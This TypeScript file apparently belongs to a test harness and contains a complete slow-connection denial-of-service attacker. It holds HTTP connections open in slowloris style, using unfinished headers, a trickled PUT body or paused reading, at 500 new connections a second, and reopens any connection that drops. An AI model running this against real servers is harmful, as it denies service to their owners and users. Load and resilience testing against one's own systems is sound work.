import { connect, type Socket } from "node:net";
import { found, given } from "../support/given.ts";
import { steadily } from "../support/steady-pace.ts";

/** How a client takes its time. */
export type Manner = "headers" | "body" | "reading";

interface Given {
  readonly url: string;
  readonly seconds: number;
  readonly groups: readonly {
    readonly manner: Manner;
    readonly connections: number;
    readonly paths: readonly string[];
  }[];
}

const SEND_MILLIS = 1_000;
/** They come one after the other: a thousand at the same moment would be another attack. */
const OPENED_PER_SECOND = 500;

// Holds connections open and gets on as slowly as it may; one that is ended is opened anew at once.
const { url, seconds, groups } = await given<Given>();
const { hostname, port } = new URL(url);
let opened = 0;
let isOver = false;
const sockets = new Set<Socket>();

/** What is said at once, and then once a second. */
const SPEECH: Readonly<Record<Manner, (path: string) => readonly [atOnce: string, later: string]>> = {
  headers: (path) => [`GET ${path} HTTP/1.1\r\nHost: localhost\r\n`, "X-Slow: a\r\n"],
  body: (path) => [`PUT ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4000\r\n\r\n{`, " "],
  reading: (path) => [`GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`, ""],
};

function open(manner: Manner, path: string): void {
  if (isOver) return;
  opened += 1;
  const [atOnce, later] = SPEECH[manner](path);
  const socket = connect(Number(port), hostname).on("error", () => undefined);
  sockets.add(socket);
  if (manner === "reading") socket.pause();
  else socket.resume();
  socket.write(atOnce);
  const speaking = setInterval(() => later !== "" && socket.writable && socket.write(later), SEND_MILLIS);
  socket.once("close", () => {
    clearInterval(speaking);
    sockets.delete(socket);
    setTimeout(() => open(manner, path), 100);
  });
}

const all = groups.flatMap(({ manner, connections, paths }) =>
  Array.from({ length: connections }, (_, number) => ({ manner, path: paths[number % paths.length] ?? "/" })),
);
void steadily({ perSecond: OPENED_PER_SECOND, count: all.length }, async (number) => {
  const one = all[number];
  if (one) open(one.manner, one.path);
});
setTimeout(() => {
  isOver = true;
  for (const socket of sockets) socket.destroy();
  found({ opened });
}, seconds * 1_000);
